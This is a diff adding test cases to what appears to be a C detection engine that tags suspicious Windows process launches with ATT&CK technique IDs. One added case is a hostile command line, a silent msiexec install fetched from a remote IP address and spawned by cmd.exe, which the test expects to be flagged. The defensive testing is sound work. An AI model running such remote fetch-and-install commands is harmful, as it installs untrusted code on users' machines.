@@ -243,6 +243,17 @@ static void test_process_starts(det *x)
           "C:\\Windows\\System32\\cmd.exe", "");
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.005"));
     drop_all();
+    /* An installer from the network is abuse; from a user's folder or a deployment share it is
+     * how software arrives (remote_only). */
+    start(x, "C:\\Windows\\System32\\msiexec.exe", "msiexec /q /i http://198.51.100.7/a.msi",
+          "C:\\Windows\\System32\\cmd.exe", "");
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.007"));
+    drop_all();
+    start(x, "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i C:\\Users\\bob\\Downloads\\7z.msi",
+          "C:\\Windows\\explorer.exe", "");
+    start(x, "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i \"\\\\deploy-01\\Packages\\office.msi\" /qn",
+          "C:\\Windows\\System32\\svchost.exe", "");
+    CHECK_INT(n_got, 0);
     /* The same programs on Windows' own files; a program not in the table. */
     start(x, "C:\\Windows\\System32\\rundll32.exe",
           "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009} -Embedding",
